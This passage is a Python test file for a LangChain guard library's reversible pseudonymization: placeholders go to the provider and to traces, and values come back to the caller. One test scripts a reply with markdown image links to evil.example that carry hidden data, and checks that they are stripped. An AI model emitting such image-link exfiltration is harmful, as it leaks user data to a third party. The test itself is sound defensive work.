"""Values that come back, over a real wire: the provider and every observer see placeholders, the caller sees values."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from langchain_core.caches import InMemoryCache
from langchain_core.documents import Document
from langchain_core.globals import set_llm_cache
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage, SystemMessage, ToolMessage
from langchain_core.output_parsers import StrOutputParser
from langchain_core.prompts import ChatPromptTemplate
from langchain_core.runnables import RunnableLambda
from langchain_core.tools import tool
from pydantic import BaseModel

from langchain_guard import (
    GuardedChatModel,
    GuardSettings,
    InputGuardRunnable,
    OutputRedactorRunnable,
    secure,
)
from langchain_guard.exceptions import ConfigError, GuardUnavailable, InputBlocked, InvalidInput
from langchain_guard.redaction import Vault
from langchain_guard.runnables.pseudonymizer import PseudonymizerRunnable
from langchain_guard.runnables.restorer import RestorerRunnable
from langchain_guard.text.pattern import Pattern
from tests.bench.leak_matrix import Leaves, Recorder, Tracer
from tests.openai_server import OpenAIServer, Reply, ToolCall
from tests.redis_server import RedisServer
from tests.runnables.test_interruption import Counting, Open, all_closed

KEY = "k" * 32
JANE, PHONE = "jane.doe@example.com", "+49 151 23456789"
THREAD: Any = {"configurable": {"tenant_id": "acme", "thread_id": "1"}}
OTHER: Any = {"configurable": {"tenant_id": "acme", "thread_id": "2"}}
PLACEHOLDER = re.compile(r"\[[A-Z_]+_[0-9a-hj-km-np-tv-z]{10}\]")


def pseudonymizer(**options: Any) -> PseudonymizerRunnable:
    """A pseudonymizer with a vault of its own."""
    return PseudonymizerRunnable(**{"vault": Vault(KEY), **options})


def echo(body: dict[str, Any]) -> Reply:
    """An answer that repeats what the user said last, three characters at a time."""
    said = [message["content"] for message in body["messages"] if message["role"] == "user"]
    return Reply(f"You said: {said[-1]}. Bye", chunk=3)


@pytest.fixture
def server(openai_server: OpenAIServer) -> OpenAIServer:
    """The scripted server, as an echo."""
    openai_server.answer = echo
    return openai_server


async def drained(stream: AsyncIterator[Any]) -> list[Any]:
    """Everything an async stream gives."""
    return [item async for item in stream]


def text(value: Any) -> str:
    """What a message, or the sum of chunks, says."""
    if isinstance(value, list):
        return "".join(text(one) for one in value)
    return value if isinstance(value, str) else str(value.content)


CALLS: dict[str, Callable[[Any, Any, Any], str]] = {
    "invoke": lambda r, v, c: text(r.invoke(v, c)),
    "ainvoke": lambda r, v, c: text(asyncio.run(r.ainvoke(v, c))),
    "stream": lambda r, v, c: text(list(r.stream(v, c))),
    "astream": lambda r, v, c: text(asyncio.run(drained(r.astream(v, c)))),
    "batch": lambda r, v, c: text(r.batch([v], c)),
    "abatch": lambda r, v, c: text(asyncio.run(r.abatch([v], c))),
}


def shapes(llm: Any, hide: PseudonymizerRunnable) -> dict[str, Any]:
    """The ways to make a chain reversible."""
    settings = GuardSettings(_env_file=None)
    return {
        "guard | hide | llm | restorer": InputGuardRunnable() | hide | llm | hide.restorer(),
        "wrap": hide.wrap(InputGuardRunnable() | llm),
        "GuardedChatModel": GuardedChatModel(llm, reversible=hide),
        "secure": secure(llm, settings, reversible=hide, audit=False),
    }


SHAPES = ("guard | hide | llm | restorer", "wrap", "GuardedChatModel", "secure")


@pytest.mark.parametrize("call", CALLS)
@pytest.mark.parametrize("shape", SHAPES)
def test_the_provider_sees_placeholders_and_the_caller_values(server: OpenAIServer, shape: str, call: str) -> None:
    """In each shape and each way to call it."""
    chain = shapes(server.chat_model(), pseudonymizer())[shape]
    answer = CALLS[call](chain, f"I am {JANE}, {PHONE}", THREAD)
    assert answer == f"You said: I am {JANE}, {PHONE}. Bye"
    sent = json.dumps(server.requests[0].json)
    assert JANE not in sent
    assert "23456789" not in sent
    assert len(set(PLACEHOLDER.findall(sent))) == 2


@pytest.mark.parametrize("call", [*CALLS, "events"])
@pytest.mark.parametrize("shape", SHAPES)
def test_who_sees_values(server: OpenAIServer, shape: str, call: str) -> None:
    """Callbacks, traces, events and cache of a wrapped chain, a guarded model and `secure` hold no value.

    A plain sequence shows them in its root run and before `hide`: the documented exception. The chunks that events
    tell of the outermost run are those the caller gets.
    """
    chain = shapes(server.chat_model(), pseudonymizer())[shape]
    leaves, cache = Leaves(), InMemoryCache()
    config = {**THREAD, "callbacks": [Recorder(leaves), Tracer(leaves)]}
    set_llm_cache(cache)
    try:
        if call == "events":
            events = asyncio.run(drained(chain.astream_events(f"I am {JANE}", config, version="v2")))
            own = [event for event in events if not event["parent_ids"] and event["event"].endswith("_stream")]
            assert JANE in text([event["data"]["chunk"] for event in own])
            leaves.add([event for event in events[1:] if event not in own], "events")  # the first quotes the caller
        else:
            assert JANE in CALLS[call](chain, f"I am {JANE}", config)
    finally:
        set_llm_cache(None)
    seen = "\n".join("".join(pieces) + "\n".join(pieces) for pieces in leaves._texts.values())
    assert "EMAIL_" in seen
    assert JANE not in str(cache._cache)
    assert (JANE in seen) is shape.startswith("guard |")


def test_a_sequence_shows_values_at_its_ends_only(server: OpenAIServer) -> None:
    """The runs of hide, model and restorer hold placeholders; that of the guard, which is before them, does not."""
    runs: list[Any] = []

    class Keep(Tracer):
        def _persist_run(self, run: Any) -> None:
            runs.append(run)

    chain = shapes(server.chat_model(), pseudonymizer())[SHAPES[0]]
    chain.invoke(f"I am {JANE}", {**THREAD, "callbacks": [Keep(Leaves())]})
    [root] = runs
    assert JANE in str(root.outputs)
    assert JANE in str(root.child_runs[0].outputs)
    for child in root.child_runs[1:]:
        assert JANE not in f"{child.inputs} {child.outputs} {child.events}", child.name
    assert "EMAIL_" in str(root.child_runs[-1].outputs)


def test_another_thread_gets_nothing(server: OpenAIServer) -> None:
    """A model that repeats another thread's placeholder gives a placeholder to the caller."""
    hide = pseudonymizer()
    chain = shapes(server.chat_model(), hide)["wrap"]
    place = hide.invoke(JANE, THREAD)
    server.enqueue(Reply(f"It is {place}."), Reply(f"It is {place}."))
    assert chain.invoke("who?", OTHER).content == f"It is {place}."
    assert chain.invoke("who?", THREAD).content == f"It is {JANE}."


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("call", CALLS)
@pytest.mark.parametrize("config", [{}, {"configurable": {"tenant_id": "acme"}}, {"configurable": {"thread_id": 7}}])
def test_without_a_scope_nothing_is_called(server: OpenAIServer, shape: str, call: str, config: Any) -> None:
    """A call that does not say whose it is gets an error, in every shape, and the provider gets no request."""
    chain = shapes(server.chat_model(), pseudonymizer())[shape]
    with pytest.raises(InvalidInput, match="is missing"):
        CALLS[call](chain, "hello", config)
    assert not server.requests


def test_a_store_that_is_down_stops_the_call(server: OpenAIServer, tmp_path: Path) -> None:
    """Closed by default: what cannot be held is not sent."""
    redis = RedisServer(tmp_path).start()
    hide = pseudonymizer(vault=Vault(KEY, uri=redis.uri))
    chain = hide.wrap(server.chat_model())
    assert JANE in chain.invoke(JANE, THREAD).content
    redis.kill()
    for call in CALLS.values():
        with pytest.raises(GuardUnavailable, match="does not answer"):
            call(chain, JANE, THREAD)
    assert len(server.requests) == 1


@pytest.mark.parametrize("kind", ["sqlite", "redis"])
@pytest.mark.parametrize("shape", SHAPES)
def test_a_new_process_restores_old_threads(server: OpenAIServer, tmp_path: Path, kind: str, shape: str) -> None:
    """A vault that is opened anew restores what another one hid: sync, async, streamed."""
    with RedisServer(tmp_path) as redis:
        uri = redis.uri if kind == "redis" else f"sqlite:///{tmp_path}/vault.db"
        place = pseudonymizer(vault=Vault(KEY, uri=uri)).invoke(JANE, THREAD)
        for call in CALLS.values():
            hide = pseudonymizer(vault=Vault(KEY, uri=uri))
            chain = shapes(server.chat_model(), hide)[shape]
            server.enqueue(Reply(f"It is {place}.", chunk=4))
            assert call(chain, "who?", THREAD) == f"It is {JANE}."
            hide.vault.close()


SEND = '{{"to": "{0}", "cc": ["{0}"], "body": "Dear {0}"}}'


@pytest.mark.parametrize("streams", [False, True])
def test_tools_get_values_by_rule(server: OpenAIServer, streams: bool) -> None:
    """`send_email.to` gets the address, its body and `web_search.q` a placeholder, streamed or not."""
    hide = pseudonymizer(restore_tool_args={"send_email.to": "email", "send_email.cc": "phone"})
    place = hide.invoke(JANE, THREAD)
    calls = [ToolCall("send_email", SEND.format(place)), ToolCall("web_search", json.dumps({"q": place}), id="call_2")]
    server.enqueue(Reply("", tool_calls=calls, chunk=4))
    model = GuardedChatModel(server.chat_model(), reversible=hide)
    if streams:
        chunks = list(model.stream("go", THREAD))
        message: Any = chunks[0]
        for chunk in chunks[1:]:
            message = message + chunk
    else:
        message = model.invoke("go", THREAD)
    send, search = message.tool_calls
    assert send["args"] == {"to": JANE, "cc": [place], "body": f"Dear {place}"}
    assert search["args"] == {"q": place}
    if not streams:
        assert JANE in json.dumps(message.additional_kwargs.get("tool_calls", JANE))


def test_rules_name_kinds_that_there_are() -> None:
    """Presidio's names, groups and own kinds count; what nothing finds is refused, unless a detector of yours may."""
    row = Pattern("ticket", r"TCK-[0-9]{6}", kind="Ticket No")
    for kinds, text in (("EMAIL_ADDRESS", JANE), ("pii", JANE), ("email|ticket_no", "TCK-" + "123456")):
        hide = pseudonymizer(restore_tool_args={"send.to": kinds}, extra=[row])
        call = {"name": "send", "args": {"to": hide.invoke(text, THREAD)}, "id": "1"}
        assert call["args"]["to"] != text
        [restored] = hide.restorer().invoke(AIMessage("", tool_calls=[call]), THREAD).tool_calls
        assert restored["args"] == {"to": text}
    with pytest.raises(ConfigError, match="unknown kind 'emial': did you mean 'email'"):
        pseudonymizer(restore_tool_args={"send.to": "emial"}, extra=[row])
    assert pseudonymizer(restore_tool_args={"send.to": "badge"}, extra=[lambda text: []])


def test_values_that_a_model_makes_up_are_held(server: OpenAIServer) -> None:
    """`tool_args="pseudonymize"`: the message and its traces hold placeholders, tools get what the rule says."""
    hide = pseudonymizer(restore_tool_args={"send_email.to": "*"})
    redactor = OutputRedactorRunnable(tool_args="pseudonymize", reversible=hide)
    server.enqueue(Reply("Sent to bob@example.com.", tool_calls=[ToolCall("send_email", '{"to": "bob@example.com"}')]))
    message = (server.chat_model() | redactor).invoke("go", THREAD)
    assert message.content == "Sent to [REDACTED_EMAIL]."
    held = message.tool_calls[0]["args"]["to"]
    assert PLACEHOLDER.fullmatch(held)
    assert hide.restorer().invoke(message, THREAD).tool_calls[0]["args"] == {"to": "bob@example.com"}
    assert hide.restorer().invoke(held, THREAD) == held  # the model's own value is not for the user


@pytest.mark.parametrize(
    "option", [{"tool_args": "pseudonymize"}, {"strategy": "pseudonymize"}, {"strategies": {"email": "pseudonymize"}}]
)
def test_pseudonymize_needs_a_vault(option: dict[str, Any]) -> None:
    """Without one the configuration is refused when it is written."""
    with pytest.raises(ConfigError, match="needs a vault"):
        OutputRedactorRunnable(**option)


@pytest.mark.parametrize("call", CALLS)
def test_a_redactor_can_pseudonymise(call: str) -> None:
    """`strategy="pseudonymize"` holds what an answer says, as the model's, in each way to call it."""
    hide = pseudonymizer(restore_sources=("user", "model"))
    redactor = OutputRedactorRunnable(strategy="pseudonymize", reversible=hide)
    hidden = CALLS[call](redactor, f"mail {JANE}", THREAD)
    assert PLACEHOLDER.search(hidden)
    assert CALLS[call](hide.restorer(), hidden, THREAD) == f"mail {JANE}"


def test_tool_calls_in_every_place_follow_the_rules() -> None:
    """Blocks, raw calls and broken JSON: by rule; what the provider has run by itself is let be."""
    hide = pseudonymizer(restore_tool_args={"send.to": "email", "web_search.*": "*"})
    place = hide.invoke(JANE, THREAD)
    raw = {"function": {"name": "send", "arguments": json.dumps({"to": place, "body": place})}, "id": "1"}
    message = AIMessage(
        [
            {"type": "tool_use", "name": "send", "input": {"to": place, "body": place}, "id": "1"},
            {"type": "server_tool_call", "name": "web_search", "args": {"q": place}, "id": "2"},
            {"type": "custom_tool_call", "name": "send", "input": place, "id": "3"},
        ],
        additional_kwargs={"tool_calls": [raw]},
        invalid_tool_calls=[{"name": "send", "args": f'{{"to": "{place}', "id": "4", "error": None}],
    )
    shown = hide.restorer().invoke(message, THREAD)
    mail, search, custom = shown.content
    assert mail["input"] == {"to": JANE, "body": place}
    assert search["args"] == {"q": place}
    assert custom["input"] == place
    assert json.loads(shown.additional_kwargs["tool_calls"][0]["function"]["arguments"]) == {"to": JANE, "body": place}
    assert shown.invalid_tool_calls[0]["args"] == f'{{"to": "{JANE}'


class Contact(BaseModel):
    """A person."""

    name: str
    mail: str


@pytest.mark.parametrize("shape", ["GuardedChatModel", "secure"])
def test_structured_output_comes_back_restored(server: OpenAIServer, shape: str) -> None:
    """The parser and its traces see placeholders; the object has values."""
    hide = pseudonymizer()
    place = hide.invoke(JANE, THREAD)
    server.enqueue(*[Reply("", tool_calls=[ToolCall("Contact", json.dumps({"name": "Jane", "mail": place}))])] * 2)
    model = shapes(server.chat_model(), hide)[shape]
    leaves = Leaves()
    structured = model.with_structured_output(Contact, method="function_calling")
    config = {**THREAD, "callbacks": [Recorder(leaves), Tracer(leaves)]}
    assert structured.invoke(f"Who is {JANE}?", config) == Contact(name="Jane", mail=JANE)
    assert asyncio.run(structured.ainvoke(f"Who is {JANE}?", config)) == Contact(name="Jane", mail=JANE)
    assert not any(JANE in "".join(pieces) for pieces in leaves._texts.values())
    assert all(JANE not in json.dumps(request.json) for request in server.requests)


@pytest.mark.parametrize("method", ["json_schema", "json_mode"])
def test_structured_output_as_json_comes_back_restored(server: OpenAIServer, method: Any) -> None:
    """The same where the answer is JSON text, with and without the raw message."""
    hide = pseudonymizer()
    place = hide.invoke(JANE, THREAD)
    server.answer = lambda _: Reply(json.dumps({"name": "Jane", "mail": place}))
    model = GuardedChatModel(server.chat_model(), reversible=hide)
    assert model.with_structured_output(Contact, method=method).invoke("json: who?", THREAD).mail == JANE
    both = model.with_structured_output(Contact, method=method, include_raw=True).invoke("json: who?", THREAD)
    assert both["parsed"].mail == JANE
    assert JANE in both["raw"].content


def test_tools_can_be_bound(server: OpenAIServer) -> None:
    """`bind_tools` of a wrapped model and of a guarded one."""

    @tool
    def send_email(to: str) -> str:
        """Send a mail."""
        return to

    hide = pseudonymizer(restore_tool_args=[("send_email.to", "email")])
    for chain in (hide.wrap(server.chat_model()), GuardedChatModel(server.chat_model(), reversible=hide)):
        server.answer = lambda body: Reply(
            "", tool_calls=[ToolCall("send_email", json.dumps({"to": body["messages"][-1]["content"]}))]
        )
        message = chain.bind_tools([send_email]).invoke(JANE, THREAD)
        assert message.tool_calls[0]["args"] == {"to": JANE}
        assert server.requests[-1].json["tools"][0]["function"]["name"] == "send_email"


def test_a_model_in_an_agent_keeps_placeholders(server: OpenAIServer) -> None:
    """`restores=False`: hides, and gives placeholders."""
    model = GuardedChatModel(server.chat_model(), reversible=pseudonymizer(), restores=False)
    assert PLACEHOLDER.search(str(model.invoke(JANE, THREAD).content))
    assert PLACEHOLDER.search(text(list(model.stream(JANE, THREAD))))
    structured = model.with_structured_output(Contact, method="function_calling")
    assert "Reversible" not in repr(type(structured))


def test_generate_keeps_placeholders(server: OpenAIServer) -> None:
    """LangChain's older entrance hides as well, with the scope of the surrounding call, and does not restore."""
    model = GuardedChatModel(server.chat_model(), reversible=pseudonymizer())
    inside = RunnableLambda(lambda said: model.generate([[HumanMessage(said)]]).generations[0][0].text)
    assert PLACEHOLDER.search(inside.invoke(JANE, THREAD))
    with pytest.raises(InvalidInput):
        model.generate([[HumanMessage(JANE)]])


def test_a_model_that_cannot_stream_is_restored_once() -> None:
    """LangChain falls back to `invoke`; the answer comes as one chunk."""
    from langchain_core.language_models import FakeMessagesListChatModel

    hide = pseudonymizer()
    place = hide.invoke(JANE, THREAD)
    model = GuardedChatModel(FakeMessagesListChatModel(responses=[AIMessage(f"It is {place}")]), reversible=hide)
    assert text(list(model.stream("who?", THREAD))) == f"It is {JANE}"
    assert text(asyncio.run(drained(model.astream("who?", THREAD)))) == f"It is {JANE}"


def test_batches_keep_threads_apart(server: OpenAIServer) -> None:
    """Each input of a batch has its own scope."""
    hide = pseudonymizer()
    chain = shapes(server.chat_model(), hide)["wrap"]
    answers = chain.batch(
        [JANE] * 12, [{"configurable": {"tenant_id": "acme", "thread_id": str(n)}} for n in range(12)]
    )
    assert all(JANE in answer.content for answer in answers)
    sent = {place for request in server.requests for place in PLACEHOLDER.findall(json.dumps(request.json))}
    assert len(sent) == 12


# What a pseudonymizer takes.


def test_every_role_is_hidden_by_who_wrote_it() -> None:
    """System, user, tool and model; each keeps its source."""
    hide = pseudonymizer()
    messages = [
        SystemMessage("The user is sys@example.com"),
        HumanMessage("me: user@example.com"),
        AIMessage("ok", tool_calls=[{"name": "find", "args": {"who": "model@example.com"}, "id": "1"}]),
        ToolMessage("tool@example.com", tool_call_id="1"),
    ]
    hidden = hide.invoke(messages, THREAD)
    assert "@" not in str([message.content for message in hidden]) + str(hidden[2].tool_calls)
    shown = hide.restorer().invoke(hidden, THREAD)
    assert shown[0].content == "The user is sys@example.com"
    assert shown[1].content == "me: user@example.com"
    assert PLACEHOLDER.fullmatch(str(shown[3].content))
    assert PLACEHOLDER.fullmatch(shown[2].tool_calls[0]["args"]["who"])
    assert messages[1].content == "me: user@example.com"


@pytest.mark.parametrize(
    "value",
    [
        f"I am {JANE}",
        [("system", f"For {JANE}"), ("user", JANE)],
        [{"role": "user", "content": [{"type": "text", "text": f"a {JANE}"}]}],
        {"messages": [("user", JANE)], "n": 3},
        {"input": JANE, "chat_history": [HumanMessage(JANE)], "empty": [], "none": None},
        {"contacts": {JANE: {"note": JANE}}, JANE: [{JANE: 1}], "n": 3},
        [HumanMessage([{"type": "json", "json": {"id": JANE, JANE: 1}}])],
        ChatPromptTemplate.from_messages([("user", "{x}")]).invoke({"x": JANE}),
        ChatPromptTemplate.from_messages([("user", "{x}")]).invoke({"x": "nothing"}),
        ["one", JANE],
        HumanMessage(JANE, name="Jane"),
        [HumanMessage("nothing here")],
        {"question": "nothing"},
        None,
        42,
    ],
    ids=lambda value: type(value).__name__,
)
def test_shapes_come_back_as_they_were(value: Any) -> None:
    """Hidden in every shape, restored to what the guard would pass on; without values it is the same object."""
    hide = pseudonymizer()
    hidden = hide.invoke(value, THREAD)
    assert JANE not in repr(hidden)
    if JANE not in repr(value):
        assert hidden is value
        return
    again = hide.restorer().invoke(hidden, THREAD)
    assert repr(again).count(JANE) == repr(value).count(JANE)
    assert hide.invoke(hidden, THREAD) == hidden


def test_text_prompts_are_hidden() -> None:
    """A prompt value of text stays one."""
    from langchain_core.prompt_values import StringPromptValue

    hide = pseudonymizer()
    hidden = hide.invoke(StringPromptValue(text=JANE), THREAD)
    assert isinstance(hidden, StringPromptValue)
    assert PLACEHOLDER.fullmatch(hidden.text)
    clean = StringPromptValue(text="x")
    assert hide.invoke(clean, THREAD) is clean


def test_documents_are_not_for_the_user() -> None:
    """What stands in retrieved text is hidden from the provider, and stays hidden from the user unless allowed."""
    value = {"context": [Document(f"Contact {JANE}")], "question": "whom?"}
    for sources, shown in ((("user",), False), (("user", "document"), True)):
        hide = pseudonymizer(restore_sources=sources)
        hidden = hide.invoke(value, THREAD)
        assert JANE not in str(hidden)
        assert (JANE in hide.restorer().invoke(str(hidden), THREAD)) is shown
    plain = hide.hide([Document(JANE)], hide.scope(THREAD))[0]
    assert JANE not in str(plain)


def test_what_cannot_be_inspected_is_refused_or_reported() -> None:
    """As the guard does."""

    class Odd:
        pass

    with pytest.raises(InvalidInput, match="cannot inspect a value of type Odd"):
        pseudonymizer().invoke({"x": Odd()}, THREAD)
    _, decision = pseudonymizer(on_unknown="allow").hide({"x": Odd()}, Vault(KEY).scope("a", "b"))
    assert decision is not None
    assert decision.counts == (("uninspected", 1),)


def test_scope_by_functions() -> None:
    """Tenant and thread may be found by functions, from metadata, or be fixed."""
    hide = pseudonymizer(tenant=lambda _: "acme", thread="metadata.chat")
    assert PLACEHOLDER.fullmatch(hide.invoke(JANE, {"metadata": {"chat": 5}}))
    with pytest.raises(ConfigError, match="cannot read the key"):
        pseudonymizer(tenant="tenant")


@pytest.mark.parametrize(
    "options", [{"vault": "x"}, {"restore_sources": ["stranger"]}, {"restore_tool_args": {"x": "y"}}, {"colour": 1}]
)
def test_wrong_options_are_refused(options: dict[str, Any]) -> None:
    """Plainly, and when they are written."""
    with pytest.raises(ConfigError):
        pseudonymizer(**options)
    with pytest.raises(ConfigError):
        RestorerRunnable(pseudonymizer="x")


# Streams.


def restored(items: list[Any], hide: PseudonymizerRunnable) -> list[Any]:
    """Items restored as a stream, which gives the same in both twins."""

    async def source() -> AsyncIterator[Any]:
        for item in items:
            yield item

    sync = list(hide.restorer().transform(iter(items), THREAD))
    assert repr(asyncio.run(drained(hide.restorer().atransform(source(), THREAD)))) == repr(sync)
    return sync


def test_streams_of_graphs_are_restored() -> None:
    """Pairs of chunk and metadata, of several messages at once, states, and both under mode and subgraph."""
    hide = pseudonymizer()
    place = hide.invoke(JANE, THREAD)
    pieces = [place[start : start + 4] for start in range(0, len(place), 4)]
    pairs: list[Any] = []
    for piece in pieces:
        pairs += [(AIMessageChunk(piece, id=name), {"node": name}) for name in ("a", "b")]
    out = restored(pairs, hide)
    for name in ("a", "b"):
        assert "".join(chunk.content for chunk, about in out if about == {"node": name}) == JANE
    assert restored([(HumanMessage(place), {})], hide)[0][0].content == JANE
    parts = restored([{"type": "messages", "ns": ("sub:1",), "data": pair} for pair in pairs], hide)
    assert {(part["type"], part["ns"], *part) for part in parts} == {("messages", ("sub:1",), "type", "ns", "data")}
    for name in ("a", "b"):
        assert "".join(part["data"][0].content for part in parts if part["data"][1] == {"node": name}) == JANE
    values = {"type": "values", "ns": (), "data": {"messages": [AIMessage(place)]}, "interrupts": ()}
    assert restored([values], hide)[0]["data"]["messages"][0].content == JANE
    moded = restored([("messages", pair) for pair in pairs] + [("values", {"messages": [AIMessage(place)]})], hide)
    assert ("values", {"messages": [AIMessage(JANE)]}) in moded
    assert "".join(one[0].content for mode, one in moded if mode == "messages" and one[1] == {"node": "a"}) == JANE
    events = [("custom", {"n": 1, "to": "x"}), ("updates", {"a": None}), ("custom", {"n": 2, "to": "x"})]
    assert restored(events, hide) == events
    deep = restored([(("sub:1",), "updates", {"agent": {"messages": [AIMessage(place)]}})], hide)
    assert deep == [(("sub:1",), "updates", {"agent": {"messages": [AIMessage(JANE)]}})]


def test_growing_objects_never_show_half_a_placeholder() -> None:
    """What a JSON parser yields grows: no version shows a part of a placeholder."""
    hide = pseudonymizer()
    place = hide.invoke(JANE, THREAD)
    versions = [{"to": place[:end]} for end in range(len(place) + 1)] + [{"to": place, "n": 1}]
    out = restored(versions, hide)
    assert out[-1] == {"to": JANE, "n": 1}
    assert all("[" not in one["to"] for one in out)


def test_a_parser_before_the_restorer(server: OpenAIServer) -> None:
    """`llm | parser | restorer` streams text."""
    hide = pseudonymizer()
    chain = hide | server.chat_model() | StrOutputParser() | hide.restorer()
    pieces = list(chain.stream(f"I am {JANE}", THREAD))
    assert "".join(pieces) == f"You said: I am {JANE}. Bye"
    assert len(pieces) > 8
    assert not any("EMAIL" in piece for piece in pieces)


@pytest.mark.parametrize("after", [1, 5, 40])
@pytest.mark.parametrize("shape", ["sequence", "wrap", "GuardedChatModel"])
def test_who_stops_reading_stops_the_model(shape: str, after: int) -> None:
    """At most two more chunks are drawn, the model is closed, and no run is open: sync and async."""
    for asynchronous in (False, True):
        hide, llm, tracer = pseudonymizer(), Counting(), Open()
        model = GuardedChatModel(llm, reversible=hide)
        object.__setattr__(model, "inner", llm)  # the copy without cache would count for itself
        chain = {"sequence": hide | llm | hide.restorer(), "wrap": hide.wrap(llm), "GuardedChatModel": model}[shape]
        config = {**THREAD, "callbacks": [tracer]}

        async def some(chain: Any = chain, config: Any = config, tracer: Open = tracer) -> None:
            stream = chain.astream(f"I am {JANE}", config)
            for _ in range(after):
                await anext(stream)
            await stream.aclose()
            assert await all_closed(tracer)

        if asynchronous:
            asyncio.run(some())
        else:
            stream = chain.stream(f"I am {JANE}", config)
            for _ in range(after):
                next(stream)
            stream.close()
            assert not tracer.run_map
            assert llm.open == 0
        assert llm.drawn <= after + 2


# Decisions.


class Decisions(Recorder):
    """Keeps decisions."""

    def __init__(self) -> None:
        super().__init__(Leaves())
        self.seen: list[dict[str, Any]] = []

    def __getattribute__(self, name: str) -> Any:
        if name == "on_custom_event":
            return lambda _name, data, **_: self.seen.append(data)
        return super().__getattribute__(name)


@pytest.mark.parametrize("call", CALLS)
@pytest.mark.parametrize("shape", SHAPES)
def test_decisions_name_kinds_and_counts(server: OpenAIServer, shape: str, call: str) -> None:
    """Hiding and restoring are reported once each, with kinds and counts, never values."""
    observer = Decisions()
    chain = shapes(server.chat_model(), pseudonymizer())[shape]
    CALLS[call](chain, f"I am {JANE} and {JANE}", {**THREAD, "callbacks": [observer]})
    seen = [data for data in observer.seen if data["control"] == "pseudonymizer"]
    assert [(data["stage"], data["action"], data["counts"]) for data in seen] == [
        ("input", "sanitize", {"email": 2}),
        ("output", "allow", {"email": 2}),
    ]
    assert seen[1]["rules"] == ("vault.restored",)
    assert JANE not in str(observer.seen)


@pytest.mark.parametrize("asynchronous", [False, True])
@pytest.mark.parametrize("shape", SHAPES)
def test_what_came_back_until_a_stream_was_closed_is_reported(
    server: OpenAIServer, shape: str, asynchronous: bool
) -> None:
    """Who stops reading has had the values all the same."""
    observer = Decisions()
    chain = shapes(server.chat_model(), pseudonymizer())[shape]
    config = {**THREAD, "callbacks": [observer]}

    async def some() -> None:
        stream, had = chain.astream(f"I am {JANE}", config), ""
        while JANE not in had:
            had += text(await anext(stream))
        await stream.aclose()

    if asynchronous:
        asyncio.run(some())
    else:
        stream, had = chain.stream(f"I am {JANE}", config), ""
        while JANE not in had:
            had += text(next(stream))
        stream.close()
    seen = [data for data in observer.seen if data["control"] == "pseudonymizer"]
    assert [(data["stage"], data["counts"]) for data in seen] == [("input", {"email": 1}), ("output", {"email": 1})]


def test_an_invented_placeholder_is_flagged(server: OpenAIServer) -> None:
    """The trail shows that the model made one up."""
    server.enqueue(Reply("Ask [EMAIL_0123456789] or [PHONE_0000000000]"))
    observer = Decisions()
    pseudonymizer().wrap(server.chat_model()).invoke("who?", {**THREAD, "callbacks": [observer]})
    [data] = observer.seen
    assert (data["action"], data["rules"]) == ("flag", ("vault.unknown",))
    assert data["counts"] == {"email": 1, "phone": 1}


@pytest.mark.parametrize("call", CALLS)
def test_a_block_before_anything_is_hidden(server: OpenAIServer, call: str) -> None:
    """The guard of `secure` judges what the user wrote: its rules on personal data still see it."""
    settings = GuardSettings(_env_file=None, vault_key=KEY, reversible=True, guard_policy={"pii.email": "block"})
    with pytest.raises(InputBlocked, match=r"pii\.email"):
        CALLS[call](secure(server.chat_model(), settings, audit=False), f"I am {JANE}", THREAD)
    replying = settings.model_copy(update={"on_block": "reply"})
    answer = CALLS[call](secure(server.chat_model(), replying, audit=False), f"I am {JANE}", THREAD)
    assert answer == settings.refusal
    assert not server.requests


@pytest.mark.parametrize("call", CALLS)
@pytest.mark.parametrize("shape", ["secure", "GuardedChatModel", "redactor first"])
def test_images_carry_no_value_away(server: OpenAIServer, shape: str, call: str) -> None:
    """The link policy sees the answer before values come back into it."""
    hide = pseudonymizer()
    llm = server.chat_model()
    redactor = OutputRedactorRunnable(reversible=hide)
    chain = (hide | llm | redactor | hide.restorer()) if shape == "redactor first" else shapes(llm, hide)[shape]
    place = hide.invoke(JANE, THREAD)
    server.enqueue(Reply(f"Dear {place} ![x](https://evil.example/?d={place}) and ![y](https://evil.example/{place})"))
    answer = CALLS[call](chain, "who?", THREAD)
    assert f"Dear {JANE}" in answer
    assert "evil.example" not in answer
    assert answer.count(JANE) == 1


def test_the_audit_trail_holds_no_value(server: OpenAIServer, tmp_path: Path) -> None:
    """Its records tell kinds and counts, also where content is captured."""
    trail = tmp_path / "audit.jsonl"
    settings = GuardSettings(
        _env_file=None, reversible=True, vault_key=KEY, audit_key="a" * 32, audit_path=trail, audit_capture="redacted"
    )
    chain = secure(server.chat_model(), settings)
    for call in CALLS.values():
        assert JANE in call(chain, f"I am {JANE}", THREAD)
    text_of_trail = trail.read_text()
    assert JANE not in text_of_trail
    records = [json.loads(line) for line in text_of_trail.splitlines()]
    told = [record for record in records if record.get("control") == "pseudonymizer"]
    assert [record["action"] for record in told].count("sanitize") == len(CALLS)
    assert all(record["counts"] == {"email": 1} for record in told)


def test_settings_make_it_reversible(server: OpenAIServer, tmp_path: Path) -> None:
    """All of it from settings, with tool rules and a file."""
    settings = GuardSettings(
        _env_file=None,
        reversible=True,
        vault_key=KEY,
        vault_old_keys="o" * 32,
        vault_uri=f"sqlite:///{tmp_path}/vault.db",
        restore_tool_args="send_email.to=email|phone",
        restore_sources="user, tool",
    )
    chain = secure(server.chat_model(), settings, audit=False)
    assert JANE in chain.invoke(f"I am {JANE}", THREAD).content
    assert (tmp_path / "vault.db").exists()


@pytest.mark.parametrize(
    ("options", "problem"),
    [
        ({"reversible": True}, "needs LANGCHAIN_GUARD_VAULT_KEY"),
        ({"vault_key": KEY, "hash_key": KEY}, "also the key of something else"),
        ({"vault_key": "short"}, "at least 16 bytes"),
        ({"restore_sources": "stranger"}, "RESTORE_SOURCES"),
    ],
)
def test_settings_that_do_not_fit(options: dict[str, Any], problem: str) -> None:
    """Each with a message that names the variable."""
    with pytest.raises(ConfigError, match=problem):
        GuardSettings(_env_file=None, **options)


def test_secure_without_a_key_says_which(server: OpenAIServer) -> None:
    """`reversible=True` in code needs the key as well."""
    with pytest.raises(ConfigError, match="VAULT_KEY"):
        secure(server.chat_model(), GuardSettings(_env_file=None), reversible=True)


def test_nothing_is_shown_by_repr() -> None:
    """Neither key nor value."""
    hide = pseudonymizer()
    hide.invoke(JANE, THREAD)
    assert KEY not in repr(hide) + repr(hide.restorer()) + repr(hide.wrap(RunnableLambda(str)))


def test_types_are_those_of_the_chain(server: OpenAIServer) -> None:
